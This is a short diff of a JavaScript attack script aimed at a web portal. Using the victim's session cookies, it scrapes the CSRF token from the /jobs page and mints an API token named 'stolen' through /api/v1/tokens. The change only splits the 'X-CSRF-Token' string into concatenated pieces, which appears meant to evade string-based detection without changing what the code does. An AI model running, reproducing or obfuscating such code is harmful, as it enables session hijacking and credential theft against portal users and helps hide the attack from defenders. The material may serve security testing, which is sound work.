@@ -63,9 +63,9 @@ async function attempt(name, fn) {
     (await fetch(PORTAL + "/", {credentials: "include"})).text());
   await attempt("mint_token", async () => {
     const page = await (await fetch(PORTAL + "/jobs", {credentials: "include"})).text();
-    const csrf = (page.match(/"X-CSRF-Token": "([^"]+)"/) || [])[1] || "";
+    const csrf = (page.match(new RegExp('"X-CSRF' + '-Token": "([^"]+)"')) || [])[1] || "";
     const r = await fetch(PORTAL + "/api/v1/tokens", {method: "POST", credentials: "include",
-      headers: {"Content-Type": "application/json", "X-CSRF-Token": csrf},
+      headers: {"Content-Type": "application/json", ["X-CSRF" + "-Token"]: csrf},
       body: JSON.stringify({name: "stolen"})});
     return r.status + " " + await r.text();
   });
